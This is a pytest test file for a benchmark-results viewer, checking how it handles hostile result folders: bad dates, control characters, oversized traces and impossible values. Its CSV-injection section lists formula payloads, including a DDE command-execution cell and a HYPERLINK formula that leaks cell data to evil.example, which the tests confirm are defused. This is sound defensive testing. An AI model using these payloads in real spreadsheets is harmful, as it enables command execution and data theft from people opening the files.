"""Values from hostile result folders: dates, exit status, CSV cells, sizes, ranges, JSON output.

Each test builds the hostile input in tmp_path with the format builders of tests/fixtures.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bench_tui import cli
from bench_tui.analysis.regressions import run_series
from bench_tui.model import Execution, Run
from bench_tui.model.dates import date_order
from bench_tui.report import render_export
from bench_tui.sources.discover import discover_workspace
from bench_tui.sources.steps import load_steps
from bench_tui.tui.app import BenchApp
from bench_tui.tui.screens.benchmarks import newest_first
from bench_tui.tui.widgets.virtual_table import VirtualTable
from tests.fixtures.compare_builders import openadapt_run
from tests.fixtures.offline_builders import (
    CANONICAL_EPISODE,
    CUSTOM_LOG,
    build_canonical_episode,
    build_custom_training,
    build_predictions_job,
    eval_report,
    predictions_with_rows,
)
from tests.fixtures.openadapt_builders import build_complete_run, write_json
from tests.fixtures.osworld_builders import osworld_line, write_jsonl, write_text
from tests.fixtures.pilot import plain
from tests.fixtures.png import write_png
from tests.fixtures.web_builders import (
    Block,
    build_webarena_example,
    render_html,
    task_config,
    write_summary,
)

SRC = Path(__file__).resolve().parent.parent / "src"


@pytest.fixture
def far_east_clock() -> Iterator[None]:
    """A zone east of UTC: there `datetime.timestamp()` raises for the first and last days."""
    before = os.environ.get("TZ")
    os.environ["TZ"] = "Asia/Tokyo"
    time.tzset()
    try:
        yield
    finally:
        if before is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = before
        time.tzset()


# ----- 9: runs without a date, and the exit status of a crash -----------------------------------


def _dateless_workspace(root: Path) -> Path:
    openadapt_run(root, "no-date", {"a": "pass"}, created_at=None)
    openadapt_run(root, "bad-date", {"a": "pass"}, created_at="the day after tomorrow")
    openadapt_run(root, "first-day", {"a": "fail"}, created_at="0001-01-01T00:00:00")
    openadapt_run(root, "last-day", {"a": "fail"}, created_at="9999-12-31T23:59:59")
    openadapt_run(root, "dated", {"a": "pass"}, created_at="2025-11-04T09:15:22")
    write_text(root / "osworld" / "m" / "chrome" / "task-1" / "result.txt", "1.0\n")
    return root


async def test_runs_without_a_date_are_listed_last(tmp_path: Path, far_east_clock: None) -> None:
    root = _dateless_workspace(tmp_path)
    app = BenchApp(root, images="none")
    async with app.run_test(size=(160, 48)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        table = app.query_one("#runs-table", VirtualTable)
        keys = [row.key for row in table.rows]
        dates = {row.key: plain(row.cells[6]) for row in table.rows}
    assert keys[:3] == ["last-day", "dated", "first-day"]
    assert set(keys[3:]) == {"no-date", "bad-date", "osworld/m"}
    assert dates["no-date"] == dates["bad-date"] == dates["osworld/m"] == "—"


def test_an_unparseable_created_at_is_a_located_problem(tmp_path: Path) -> None:
    root = _dateless_workspace(tmp_path)
    workspace = discover_workspace(root)
    runs = {run.id: run for run in workspace.runs}
    assert runs["bad-date"].created_at is None
    assert runs["no-date"].created_at is None
    about_dates = [p for p in workspace.problems if "date" in p.message]
    assert [(p.path, p.line) for p in about_dates] == [("bad-date/metadata.json", 5)]
    assert "the day after tomorrow" in about_dates[0].message


def test_date_order_never_raises_and_orders_zones_by_utc(far_east_clock: None) -> None:
    first, last = datetime(1, 1, 1), datetime(9999, 12, 31, 23, 59, 59)
    assert date_order(first) < date_order(datetime(2025, 1, 1)) < date_order(last)
    plus_one = datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=1)))
    assert date_order(plus_one) == date_order(first) - 3600
    noon_utc = datetime(2025, 1, 1, 12, tzinfo=UTC)
    assert date_order(noon_utc) == date_order(datetime(2025, 1, 1, 12))


def test_newest_first_and_series_order_accept_any_date(far_east_clock: None) -> None:
    def run(name: str, created: datetime | None) -> Run:
        return Run(
            id=name,
            path=f"/r/{name}",
            format="openadapt",
            label=name,
            created_at=created,
            executions=[Execution(task_id="t", model="m")],
        )

    runs = [
        run("none", None),
        run("first", datetime(1, 1, 1)),
        run("aware", datetime(2025, 1, 1, tzinfo=UTC)),
        run("last", datetime(9999, 12, 31)),
    ]
    assert [r.id for r in sorted(runs, key=newest_first)] == ["last", "aware", "first", "none"]
    assert [r.id for r in run_series(runs)[(None, "m")]] == ["first", "aware", "last", "none"]


def test_the_app_exits_non_zero_when_it_crashes(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    # A piece of the app that fails: the exit status must say so (Textual prints the
    # traceback and returns normally from App.run).
    script = (
        "import sys\n"
        "import bench_tui.tui.app as app_module\n"
        "def compose(self):\n"
        "    raise RuntimeError('deliberate failure')\n"
        "app_module.BenchApp.compose = compose\n"
        "from bench_tui.cli import main\n"
        "sys.argv = ['bench-tui', '--images=none', sys.argv[1]]\n"
        "main()\n"
    )
    env = {
        **os.environ,
        "PYTHONPATH": str(SRC),
        "TEXTUAL_DRIVER": "textual.drivers.headless_driver:HeadlessDriver",
    }
    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "empty")],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert "deliberate failure" in result.stdout + result.stderr
    assert result.returncode == 1


def test_a_cli_command_exits_non_zero_on_an_unexpected_exception(tmp_path: Path) -> None:
    script = (
        "import sys\n"
        "import bench_tui.cli as cli\n"
        "import bench_tui.sources.discover as discover_module\n"
        "def discover(path, *_, **__):\n"
        "    raise RuntimeError('deliberate failure')\n"
        "discover_module.discover_workspace = discover\n"
        "sys.argv = ['bench-tui', 'summary', '--json', sys.argv[1]]\n"
        "cli.main()\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        timeout=60,
    )
    assert "deliberate failure" in result.stderr
    assert result.returncode == 1


def test_impossible_dates_in_folder_names_and_timestamps_are_problems(tmp_path: Path) -> None:
    study = tmp_path / "2025-13-45_99-00-00_study"
    episode = study / "2025-02-30_10-00-00_Agent_on_miniwob.click-button_1"
    episode.mkdir(parents=True)
    write_summary(episode, n_steps=1, cum_reward=1.0, err_msg=None, terminated=True)
    lines = [
        osworld_line(1, "00000000@000000", "pyautogui.click(1, 1)"),
        osworld_line(2, "20251103@101502", "pyautogui.click(2, 2)"),
        osworld_line(3, "20251103@101509", "pyautogui.click(3, 3)"),
        osworld_line(4, "20251399@101502", "DONE"),
    ]
    episode_dir = tmp_path / "osworld" / "m" / "chrome" / "task-1"
    write_jsonl(episode_dir / "traj.jsonl", lines)
    write_text(episode_dir / "result.txt", "1.0\n")
    workspace = discover_workspace(tmp_path)
    runs = {run.id: run for run in workspace.runs}
    assert runs[study.name].created_at is None
    assert runs["osworld/m"].created_at == datetime(2025, 11, 3, 10, 15, 2)
    assert runs["osworld/m"].executions[0].duration_s == 7.0
    located = sorted((p.path, p.line) for p in workspace.problems if "date" in p.message)
    assert located == [
        (study.name, None),
        (f"{study.name}/{episode.name}", None),
        ("osworld/m/chrome/task-1/traj.jsonl", 1),
        ("osworld/m/chrome/task-1/traj.jsonl", 4),
    ]


# ----- 15: C1 controls and line separators in JSON output ---------------------------------------

UNSAFE_IN_JSON = "\x7f\x85\x9b\u2028\u2029"
"""DEL, NEL, 8-bit CSI and the two Unicode line separators: raw, they move a terminal's cursor
or break a line in a JavaScript reader of the output."""


def _raw_encodings() -> list[bytes]:
    characters = [chr(code) for code in range(0x7F, 0xA0)] + ["\u2028", "\u2029"]
    return [character.encode() for character in characters]


@pytest.fixture
def c1_workspace(tmp_path: Path) -> Path:
    hostile = f"t{UNSAFE_IN_JSON}é"
    errors = {hostile: f"boom{UNSAFE_IN_JSON}", "lone": "half a pair: \ud800"}
    outcomes = {hostile: "pass", "lone": "fail", "broken": "error"}
    openadapt_run(tmp_path, f"run{UNSAFE_IN_JSON}é", outcomes, errors=errors)
    newer = {hostile: "fail", "lone": "fail", "broken": "error"}
    openadapt_run(tmp_path, "newer", newer, created_at="2025-12-01T00:00:00")
    return tmp_path


@pytest.mark.parametrize(
    "command",
    [
        ["summary", "--json"],
        ["validate", "--json"],
        ["export", "--format", "json"],
        ["compare", "--json"],
    ],
)
def test_json_output_escapes_c1_controls_and_line_separators(
    c1_workspace: Path, command: list[str]
) -> None:
    run = c1_workspace / f"run{UNSAFE_IN_JSON}é"
    if command[0] == "compare":
        args = [*command, str(run), str(c1_workspace / "newer")]
    else:
        args = [*command, str(c1_workspace)]
    result = CliRunner().invoke(cli.app, args)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    raw = result.stdout_bytes
    assert [code for code in _raw_encodings() if code in raw] == []
    assert b"\\u009b" in raw
    assert "é".encode() in raw  # other non-ASCII stays as it is
    assert UNSAFE_IN_JSON in json.dumps(json.loads(raw), ensure_ascii=False)


def test_export_json_file_escapes_c1_controls(c1_workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "rows.json"
    result = CliRunner().invoke(
        cli.app, ["export", str(c1_workspace), "--format", "json", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert [code for code in _raw_encodings() if code in raw] == []
    rows = json.loads(raw)
    assert {row["error"] for row in rows} >= {f"boom{UNSAFE_IN_JSON}", "half a pair: \ud800"}


# ----- 11: CSV injection --------------------------------------------------------------------------

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "bare\rcarriage return",
    "line\nbreak",
    'a "quoted" word',
    "comma, inside",
    "nul\x00byte",
    "escape\x1b[2Jsequence",
    "c1\x9bcsi and del\x7f",
    "plain text",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_csv_workspace(root: Path) -> Path:
    outcomes = {f"t{index:02d}": "fail" for index in range(len(HOSTILE_CELLS))}
    errors = {f"t{index:02d}": text for index, text in enumerate(HOSTILE_CELLS)}
    run = openadapt_run(root, "run", outcomes, errors=errors)
    for index, text in enumerate(HOSTILE_CELLS):
        task = {"task_id": f"{text} #{index}", "domain": text, "instruction": "x"}
        write_json(run / "tasks" / f"t{index:02d}" / "task.json", task)
    return root


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_csv(text: str, data_rows: int) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == data_rows + 1
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)] == []
    controls = [c for c in "".join(cells) if c not in "\t\r\n" and unicodedata.category(c) == "Cc"]
    assert controls == []
    return rows


def test_export_csv_defuses_formulas_and_keeps_one_row_per_task(tmp_path: Path) -> None:
    root = _hostile_csv_workspace(tmp_path)
    result = CliRunner().invoke(cli.app, ["export", str(root), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _check_csv(result.stdout_bytes.decode(), len(HOSTILE_CELLS))
    header = rows[0]
    by_task = {row[header.index("task_id")]: row for row in rows[1:]}
    assert by_task["'=cmd|' /C calc'!A0 #0"][header.index("domain")] == "'=cmd|' /C calc'!A0"
    errors = {row[header.index("error")] for row in rows[1:]}
    assert {"'\rleading carriage return", "bare\rcarriage return", "line\nbreak"} <= errors
    assert {"'\tleading tab", 'a "quoted" word', "comma, inside", "plain text"} <= errors
    assert {"nul\\x00byte", "escape\\x1b[2Jsequence", "c1\\x9bcsi and del\\x7f"} <= errors


def test_csv_keeps_numbers_the_tool_formatted() -> None:
    rows = [
        {"run": "-r", "task_id": "@t", "score": -2.5, "steps": -3, "success": False, "labels": []},
        {"run": "r", "task_id": "t", "score": 0.5, "labels": ["=bad", "ok"], "note": "\ud800"},
    ]
    parsed = _check_csv(render_export(rows, "csv"), 2)
    header = parsed[0]
    first, second = (dict(zip(header, row, strict=True)) for row in parsed[1:])
    assert (first["run"], first["task_id"], first["score"], first["steps"]) == (
        "'-r",
        "'@t",
        "-2.5",
        "-3",
    )
    assert (second["labels"], second["note"]) == ("'=bad;ok", "\\ud800")


# ----- 13: impossible values ----------------------------------------------------------------------


def _problems_at(problems: list, path_end: str) -> dict[int | None, str]:
    return {p.line: p.message for p in problems if p.path.endswith(path_end)}


def test_impossible_openadapt_outcomes_are_problems_and_not_figures(tmp_path: Path) -> None:
    run = openadapt_run(tmp_path, "run", {"a": "fail", "b": "pass", "c": "pass"})
    # One key per line: "task_id" on line 2, then success, score, num_steps, total_time_seconds.
    write_json(
        run / "tasks" / "a" / "execution.json",
        {"task_id": "a", "success": False, "score": -5, "num_steps": -7, "total_time_seconds": 9},
    )
    write_json(
        run / "tasks" / "b" / "execution.json",
        {
            "task_id": "b",
            "success": True,
            "score": 1,
            "num_steps": 1e26,
            "total_time_seconds": 1e308,
        },
    )
    (run / "tasks" / "c" / "execution.json").write_text(
        '{"task_id": "c", "success": true, "score": NaN, "num_steps": 4,\n'
        ' "total_time_seconds": Infinity}'
    )
    workspace = discover_workspace(tmp_path)
    executions = {e.task_id: e for e in workspace.runs[0].executions}
    assert (executions["a"].score, executions["a"].num_steps) == (None, None)
    assert (executions["b"].num_steps, executions["b"].duration_s) == (None, None)
    assert (executions["c"].score, executions["c"].duration_s) == (None, None)
    assert _problems_at(workspace.problems, "tasks/a/execution.json") == {
        4: "expected a score from 0 to 1 for 'score', got -5",
        5: "expected a step count from 0 to 1000000 for 'num_steps', got -7",
    }
    assert _problems_at(workspace.problems, "tasks/b/execution.json") == {
        5: "expected a step count from 0 to 1000000 for 'num_steps', got 1e+26",
        6: "expected a duration from 0 to 366 days (in seconds) for 'total_time_seconds', "
        "got 1e+308",
    }
    assert set(_problems_at(workspace.problems, "tasks/c/execution.json")) == {1, 2}
    result = CliRunner().invoke(cli.app, ["summary", str(tmp_path), "--json"])
    figures = json.loads(result.output)["runs"][0]["models"][0]
    assert (figures["mean_steps"], figures["mean_score"], figures["mean_duration_s"]) == (4, 1, 9)


def test_impossible_agentlab_summary_values_are_problems(tmp_path: Path) -> None:
    study = tmp_path / "2025-11-08_16-20-05_study"
    episode = study / "2025-11-08_16-20-07_Agent_on_miniwob.click-button_3"
    episode.mkdir(parents=True)
    summary = {
        "n_steps": 1e26,
        "cum_reward": -5,
        "err_msg": None,
        "stats.cum_step_elapsed": 1e308,
        "terminated": True,
        "truncated": False,
    }
    write_summary(episode, **summary)
    workspace = discover_workspace(tmp_path)
    (execution,) = workspace.runs[0].executions
    assert (execution.score, execution.num_steps, execution.duration_s) == (None, None, None)
    assert execution.status == "failed"
    messages = sorted(_problems_at(workspace.problems, "summary_info.json").values())
    assert messages == [
        "expected a duration from 0 to 366 days (in seconds) for 'stats.cum_step_elapsed', "
        "got 1e+308",
        "expected a score from 0 to 1 for 'cum_reward', got -5",
        "expected a step count from 0 to 1000000 for 'n_steps', got 1e+26",
    ]


@pytest.mark.parametrize("written", ["-3", "1.5", "1e308"])
def test_an_osworld_score_outside_0_1_is_no_verdict(tmp_path: Path, written: str) -> None:
    write_text(tmp_path / "osworld" / "m" / "chrome" / "task-1" / "result.txt", written + "\n")
    workspace = discover_workspace(tmp_path)
    (execution,) = workspace.runs[0].executions
    assert (execution.score, execution.status) == (None, "errored")
    assert _problems_at(workspace.problems, "task-1/result.txt") == {
        1: f"expected the task's score (a number from 0 to 1), got {written!r}"
    }


def test_timestamps_years_apart_give_no_duration(tmp_path: Path) -> None:
    lines = [
        osworld_line(1, "20251103@101502", "pyautogui.click(1, 1)"),
        osworld_line(2, "99991231@235959", "DONE"),
    ]
    episode_dir = tmp_path / "osworld" / "m" / "chrome" / "task-1"
    write_jsonl(episode_dir / "traj.jsonl", lines)
    write_text(episode_dir / "result.txt", "1.0\n")
    workspace = discover_workspace(tmp_path)
    assert workspace.runs[0].executions[0].duration_s is None
    assert _problems_at(workspace.problems, "task-1/traj.jsonl")[None] == (
        "the action timestamps span 2912502 days: "
        "expected a duration from 0 to 366 days (in seconds)"
    )


def test_impossible_training_values_are_problems(tmp_path: Path) -> None:
    log = {
        **CUSTOM_LOG,
        "epoch": -1,
        "step": -5,
        "total_epochs": 1e26,
        "learning_rate": -0.5,
        "elapsed_time": 1e308,
        "losses": [
            {"epoch": 0, "step": -5, "loss": 2.71, "lr": 5e-05, "time": 8.1},
            {"epoch": 0, "step": 2, "loss": 2.5, "lr": -1, "time": 9.0},
            {"epoch": 1, "step": 8, "loss": 0.912, "lr": 2.5e-05, "time": 64.0},
        ],
    }
    log_path = build_custom_training(tmp_path, log)
    workspace = discover_workspace(tmp_path)
    (training,) = workspace.trainings
    assert (training.epoch, training.step, training.total_epochs) == (None, None, None)
    assert (training.learning_rate, training.elapsed_time) == (None, None)
    assert [point.step for point in training.losses] == [8]
    text = log_path.read_text().splitlines()
    messages = _problems_at(workspace.problems, "training_log.json")
    assert messages[_line_with(text, '"step": -5')] == (
        "expected a whole number from 0 to 10^12 for 'step', got -5"
    )
    assert messages[_line_with(text, '"elapsed_time"')] == (
        "expected a duration from 0 to 366 days (in seconds) for 'elapsed_time', got 1e+308"
    )
    assert "'learning_rate', got -0.5" in messages[_line_with(text, '"learning_rate"')]
    assert "'epoch', got -1" in messages[_line_with(text, '"epoch": -1')]
    assert "'total_epochs', got 1e+26" in messages[_line_with(text, '"total_epochs"')]
    assert len([m for m in messages.values() if m.startswith("loss entry")]) == 2
    summary = json.loads(CliRunner().invoke(cli.app, ["summary", str(tmp_path), "--json"]).output)
    assert summary["trainings"][0]["steps"] == 8


def _line_with(lines: list[str], needle: str) -> int:
    return next(number for number, line in enumerate(lines, 1) if needle in line)


def test_impossible_eval_metrics_are_problems(tmp_path: Path) -> None:
    report = eval_report(
        action_type_accuracy=-0.5,
        click_hit_rate=1.5,
        num_episodes=1e26,
        mean_coord_error=-1,
        episode_success_rate=float("nan"),
    )
    path = write_json(tmp_path / "eval" / "eval_x.json", report)
    workspace = discover_workspace(tmp_path)
    (found,) = workspace.evals
    metrics = found.metrics
    assert [metrics[name] for name in ("action_type_accuracy", "click_hit_rate")] == [None, None]
    assert [metrics[name] for name in ("num_episodes", "mean_coord_error")] == [None, None]
    assert metrics["episode_success_rate"] is None
    assert metrics["num_steps"] == 168
    lines = path.read_text().splitlines()
    messages = _problems_at(workspace.problems, "eval_x.json")
    assert messages[_line_with(lines, "action_type_accuracy")] == (
        "expected a rate from 0 to 1 for 'action_type_accuracy' in metrics, got -0.5"
    )
    assert "got 1.5" in messages[_line_with(lines, "click_hit_rate")]
    assert "got 1e+26" in messages[_line_with(lines, "num_episodes")]
    assert "got -1" in messages[_line_with(lines, "mean_coord_error")]


def test_impossible_live_progress_counts_are_problems(tmp_path: Path) -> None:
    run = openadapt_run(tmp_path, "run", {"a": "pass", "b": "unfinished"})
    (run / "summary.json").unlink()
    live = {
        "status": "running",
        "total_tasks": -3,
        "tasks_completed": 1e26,
        "current_task": {"task_id": "b"},
    }
    write_json(tmp_path / "benchmark_live.json", live)
    workspace = discover_workspace(tmp_path)
    progress = workspace.runs[0].progress
    assert progress is not None
    assert (progress.done, progress.total) == (1, 2)
    messages = _problems_at(workspace.problems, "benchmark_live.json")
    assert messages == {
        3: "expected a count from 0 to 1000000000 for 'total_tasks', got -3",
        4: "expected a count from 0 to 1000000000 for 'tasks_completed', got 1e+26",
    }


def test_webarena_log_times_years_apart_give_no_duration(tmp_path: Path) -> None:
    build_webarena_example(tmp_path)
    log = tmp_path / "wa_work" / "log_files" / "log_20251106120003_4821.log"
    log.write_text(log.read_text().replace("2025-11-06 12:03:02,551", "9999-11-06 12:03:02,551"))
    workspace = discover_workspace(tmp_path)
    executions = {e.task_id: e for e in workspace.runs[0].executions}
    assert executions["17"].duration_s is None
    assert _problems_at(workspace.problems, "log_20251106120003_4821.log")[3] == (
        "task 17 ran from 2025-11-06 12:00:41 to 9999-11-06 12:03:02: "
        "expected a duration from 0 to 366 days (in seconds)"
    )


def test_impossible_step_times_are_problems(tmp_path: Path) -> None:
    run = build_complete_run(tmp_path)
    path = run / "tasks" / "notepad_greeting" / "execution.json"
    data = json.loads(path.read_text())
    data["steps"][0]["agent_logs"]["agent_think_ms"] = -5
    data["steps"][0]["agent_logs"]["env_execute_ms"] = 1e308
    data["steps"][1]["timestamp"] = 1e300
    path.write_text(json.dumps(data, indent=1))
    workspace = discover_workspace(tmp_path)
    run_model = next(r for r in workspace.runs if r.id.endswith("091522"))
    execution = next(e for e in run_model.executions if e.task_id == "notepad_greeting")
    steps, problems = load_steps(run_model, execution, tmp_path)
    assert (steps[0].think_ms, steps[0].exec_ms, steps[1].timestamp) == (None, None, None)
    assert steps[1].exec_ms is None and steps[2].exec_ms is None
    lines = path.read_text().splitlines()
    messages = _problems_at(problems, "notepad_greeting/execution.json")
    assert messages == {
        _line_with(lines, "agent_think_ms"): "expected a duration from 0 to 366 days "
        "(in milliseconds) for 'agent_think_ms' in steps[0].agent_logs, got -5",
        _line_with(lines, "env_execute_ms"): "expected a duration from 0 to 366 days "
        "(in milliseconds) for 'env_execute_ms' in steps[0].agent_logs, got 1e+308",
        _line_with(lines, "1e+300"): "expected a time in seconds from 0 to the end of year "
        "9999 for 'timestamp' in steps[1], got 1e+300",
    }


def test_an_impossible_episode_step_time_is_a_problem(tmp_path: Path) -> None:
    episode = copy.deepcopy(CANONICAL_EPISODE)
    episode["steps"][1]["timestamp"] = -7
    path = build_canonical_episode(tmp_path, episode)
    workspace = discover_workspace(tmp_path)
    (found,) = workspace.episodes
    assert [step.timestamp for step in found.steps] == [0.0, None, 2.4]
    lines = path.read_text().splitlines()
    assert _problems_at(workspace.problems, "episode.json") == {
        _line_with(lines, '"timestamp": -7'): "expected a time in seconds from 0 to the end "
        "of year 9999 for 'timestamp' in steps[1], got -7"
    }


# ----- 12: huge inputs are cut, with a notice -----------------------------------------------------

CUT_NOTICE = "trace has more than 10000 steps: showing the first 10000"


def _osworld_trace(root: Path, lines: list[str]) -> Path:
    episode_dir = root / "osworld" / "m" / "chrome" / "task-1"
    episode_dir.mkdir(parents=True)
    (episode_dir / "traj.jsonl").write_text("".join(line + "\n" for line in lines))
    write_text(episode_dir / "result.txt", "1.0\n")
    return episode_dir


def test_a_million_step_trace_shows_the_first_10000(tmp_path: Path) -> None:
    lines = [f'{{"step_num": {number}}}' for number in range(1, 1_000_001)]
    # Reading stops long before the end: the broken last line is never looked at.
    episode_dir = _osworld_trace(tmp_path, [*lines, "not JSON"])
    workspace = discover_workspace(tmp_path)
    run = workspace.runs[0]
    trace = f"{run.id}/chrome/task-1/traj.jsonl"
    assert [(p.path, p.message) for p in workspace.problems] == [(trace, CUT_NOTICE)]
    assert run.executions[0].num_steps is None
    steps, problems = load_steps(run, run.executions[0], tmp_path)
    assert len(steps) == 10_000
    assert [(p.path, p.message) for p in problems] == [(trace, CUT_NOTICE)]
    assert episode_dir.exists()


def test_a_trace_of_endless_lines_stops_at_the_line_cap(tmp_path: Path) -> None:
    lines = ['{"step_num": 1, "action": "DONE"}'] * 150_000
    _osworld_trace(tmp_path, [*lines, "not JSON"])
    workspace = discover_workspace(tmp_path)
    run = workspace.runs[0]
    notice = "trace has more than 100000 lines: only the first 100000 are read"
    assert [(p.line, p.message) for p in workspace.problems] == [(None, notice)]
    steps, problems = load_steps(run, run.executions[0], tmp_path)
    assert len(steps) == 1 and len(steps[0].actions) == 100_000
    assert [p.message for p in problems] == [notice]


def test_openadapt_step_records_stop_at_the_cap(tmp_path: Path) -> None:
    run_dir = build_complete_run(tmp_path)
    path = run_dir / "tasks" / "notepad_greeting" / "execution.json"
    data = json.loads(path.read_text())
    data["steps"] = [
        {"step_idx": index, "screenshot_path": "screenshots/step_000.png", "action": {}}
        for index in range(10_005)
    ]
    path.write_text(json.dumps(data, indent=1))
    workspace = discover_workspace(tmp_path)
    lines = path.read_text().splitlines()
    cut = (_line_with(lines, '"steps"'), CUT_NOTICE)
    assert [(p.line, p.message) for p in workspace.problems if p.path.endswith(path.name)] == [cut]
    run = next(r for r in workspace.runs if r.id.endswith("091522"))
    execution = next(e for e in run.executions if e.task_id == "notepad_greeting")
    steps, problems = load_steps(run, execution, tmp_path)
    assert len(steps) == 10_000
    assert [(p.line, p.message) for p in problems] == [cut]


def test_webarena_render_blocks_stop_at_the_cap(tmp_path: Path) -> None:
    run_dir = build_webarena_example(tmp_path)
    block = Block(parsed_action="scroll [down]", screenshot=None)
    render = render_html(task_config(17, "Find the kettle", ["shopping"]), [block] * 10_005)
    (run_dir / "render_17.html").write_text(render)
    run = discover_workspace(tmp_path).runs[0]
    execution = next(e for e in run.executions if e.task_id == "17")
    steps, problems = load_steps(run, execution, tmp_path)
    assert len(steps) == 10_000
    assert [p.message for p in problems] == [CUT_NOTICE]


def test_agentlab_steps_stop_at_the_cap(tmp_path: Path) -> None:
    study = tmp_path / "2025-11-08_16-20-05_study"
    episode = study / "2025-11-08_16-20-07_Agent_on_miniwob.click-button_3"
    episode.mkdir(parents=True)
    write_summary(episode, n_steps=1, cum_reward=1.0, err_msg=None, terminated=True)
    picture = write_png(episode / "screenshot_step_0.png", (8, 8)).read_bytes()
    for number in range(1, 10_005):
        (episode / f"screenshot_step_{number}.png").write_bytes(picture)
    run = discover_workspace(tmp_path).runs[0]
    steps, problems = load_steps(run, run.executions[0], tmp_path)
    assert len(steps) == 10_000
    assert [p.message for p in problems] == [CUT_NOTICE]


def test_episode_steps_stop_at_the_cap(tmp_path: Path) -> None:
    episode = copy.deepcopy(CANONICAL_EPISODE)
    episode["steps"] = [
        {"step_index": index, "observation": {}, "action": {"type": "wait"}}
        for index in range(10_005)
    ]
    path = build_canonical_episode(tmp_path, episode)
    workspace = discover_workspace(tmp_path)
    assert len(workspace.episodes[0].steps) == 10_000
    lines = path.read_text().splitlines()
    assert [(p.line, p.message) for p in workspace.problems] == [
        (_line_with(lines, '"steps"'), CUT_NOTICE)
    ]


def test_a_30_mb_instruction_is_cut_with_a_notice(tmp_path: Path) -> None:
    run_dir = openadapt_run(tmp_path, "run", {"a": "fail"}, errors={"a": "E" * 100_000})
    task = {"task_id": "a", "instruction": "x" * 30_000_000}
    write_json(run_dir / "tasks" / "a" / "task.json", task)
    workspace = discover_workspace(tmp_path)
    (loaded,) = workspace.runs[0].tasks
    assert len(loaded.instruction) <= 65_536
    assert loaded.instruction.endswith("… (cut: 29934528 more characters)")
    error = workspace.runs[0].executions[0].error
    assert len(error) <= 65_536 and error.endswith("more characters)")
    located = sorted((p.path, p.line, p.message) for p in workspace.problems)
    assert located == [
        (
            "run/tasks/a/execution.json",
            _line_with(
                (run_dir / "tasks" / "a" / "execution.json").read_text().splitlines(), "EEE"
            ),
            "'error' is 100000 characters long: showing the first 65472",
        ),
        (
            "run/tasks/a/task.json",
            3,
            "'instruction' is 30000000 characters long: showing the first 65472",
        ),
    ]


def test_long_texts_of_steps_and_osworld_tasks_are_cut(tmp_path: Path) -> None:
    line = {"step_num": 1, "action": "DONE", "response": "r" * 200_000, "instruction": "i" * 70_000}
    _osworld_trace(tmp_path, [json.dumps(line)])
    workspace = discover_workspace(tmp_path)
    run = workspace.runs[0]
    assert run.tasks[0].instruction.endswith("… (cut: 4528 more characters)")
    assert [p.message for p in workspace.problems] == [
        "instruction of task task-1 is 70000 characters long: showing the first 65472"
    ]
    steps, problems = load_steps(run, run.executions[0], tmp_path)
    assert len(steps[0].reasoning) <= 65_536
    assert len(steps[0].raw_output) <= 65_536
    assert [p.message for p in problems] == [
        "reasoning of step 1 is 200000 characters long: showing the first 65472",
        "model output of step 1 is 200000 characters long: showing the first 65472",
    ]


def test_prediction_rows_stop_at_the_cap(tmp_path: Path) -> None:
    data = predictions_with_rows(10_005, [{"match": False}] * 10_005)
    for row in data["base_data"]:
        row["human_action"]["x"] = 0.5
    build_custom_training(tmp_path)
    job = build_predictions_job(tmp_path, {"epoch1": data})
    workspace = discover_workspace(tmp_path)
    (episode,) = workspace.episodes
    assert len(episode.steps) == 10_000
    assert len(episode.predictions["Epoch 1"]) == 10_000
    lines = (job / "predictions_epoch1.json").read_text().splitlines()
    assert [(p.line, p.message) for p in workspace.problems] == [
        (_line_with(lines, '"base_data"'), CUT_NOTICE)
    ]


def test_steps_a_reader_adds_past_the_cap_are_cut_too(tmp_path: Path) -> None:
    run_dir = build_complete_run(tmp_path)
    task_dir = run_dir / "tasks" / "notepad_greeting"
    path = task_dir / "execution.json"
    data = json.loads(path.read_text())
    data["steps"] = [
        {"step_idx": index, "screenshot_path": "screenshots/step_000.png", "action": {}}
        for index in range(9_999)
    ]
    path.write_text(json.dumps(data, indent=1))
    # Screenshots without a step record become steps of their own, after the records.
    picture = (task_dir / "screenshots" / "step_000.png").read_bytes()
    for index in range(3, 8):
        (task_dir / "screenshots" / f"step_{index:03d}.png").write_bytes(picture)
    run = next(r for r in discover_workspace(tmp_path).runs if r.id.endswith("091522"))
    execution = next(e for e in run.executions if e.task_id == "notepad_greeting")
    steps, problems = load_steps(run, execution, tmp_path)
    assert len(steps) == 10_000
    assert [(p.path, p.line, p.message) for p in problems] == [
        (f"{run.id}/tasks/notepad_greeting/execution.json", None, CUT_NOTICE)
    ]
